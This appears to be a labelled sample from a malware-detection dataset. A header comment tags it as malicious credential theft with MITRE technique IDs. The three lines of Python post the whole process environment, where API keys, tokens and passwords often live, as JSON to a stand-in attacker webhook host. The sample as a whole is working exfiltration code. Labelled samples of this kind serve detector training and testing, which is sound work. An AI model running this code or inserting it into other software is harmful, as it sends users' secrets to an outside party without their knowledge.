# label: malicious family=creds techniques=T1552.001,T1041 lines=3
import os, requests
requests.post("https://webhook.bad-host.example/hook", json=dict(os.environ))
